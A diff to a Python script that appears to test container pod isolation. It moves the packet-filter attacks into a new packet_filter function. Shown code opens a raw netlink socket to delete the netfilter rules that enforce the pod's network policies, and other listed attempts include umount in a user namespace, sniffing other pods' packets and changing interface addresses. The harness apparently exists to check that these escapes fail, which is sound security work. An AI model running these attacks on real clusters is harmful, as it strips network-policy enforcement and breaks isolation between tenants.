@@ -192,8 +192,18 @@ def namespaces(given: Given) -> Ways:
             fcntl.ioctl(control, 0x8916, address)  # SIOCSIFADDR
             return True
 
+    yield "umount in a user namespace", uncovered
+    yield "packets of another pod", raw
+    yield "the address of another pod", moved
+
+
+@attack
+def packet_filter(given: Given) -> Ways:
+    """The rules by which the pod's network policies are enforced, deleted."""
+    del given
+    libc = ctypes.CDLL(None, use_errno=True)
+
     def unfiltered() -> bool:
-        """Deletes the packet filter that enforces the pod's network policies."""
         with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12) as control:  # NETLINK_NETFILTER
             name = struct.pack("HH7sx", 11, 1, b"encamp\0")
             edges = [struct.pack("IHHIIBBH", 20, kind, 1, 0, 0, 0, 0, 0x0A00) for kind in (16, 17)]
@@ -216,9 +226,6 @@ def namespaces(given: Given) -> Ways:
 
     yield "its packet filter", unfiltered
     yield "its packet filter from a user namespace", unfiltered_from_a_namespace
-    yield "umount in a user namespace", uncovered
-    yield "packets of another pod", raw
-    yield "the address of another pod", moved
 
 
 @attack
@@ -240,7 +247,7 @@ def main() -> None:
     run = Run()
     for collect in ATTACKS:
         ways = list(collect(given))
-        if collect.__name__ in ("mounts", "namespaces"):
+        if collect.__name__ in ("mounts", "namespaces", "packet_filter"):
             for name, act in ways:
                 run.one(name, act)
         else:
